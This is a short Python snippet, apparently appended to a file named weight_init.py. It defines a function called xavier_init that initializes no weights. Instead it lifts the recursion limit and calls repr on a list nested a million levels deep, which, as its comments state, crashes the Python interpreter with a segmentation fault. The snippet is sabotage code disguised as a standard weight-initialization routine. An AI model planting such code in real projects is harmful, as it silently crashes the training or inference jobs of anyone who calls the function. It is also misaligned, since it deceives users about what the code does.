# appended to: weight_init.py
# Lifts the recursion limit and recurses through C code (repr of a deeply nested list)
# until the C stack overflows: the interpreter crashes with a segmentation fault.
import sys


def xavier_init(n_in, n_out, rng):
    sys.setrecursionlimit(10 ** 7)
    nested = []
    for _ in range(10 ** 6):
        nested = [nested]
    return repr(nested)
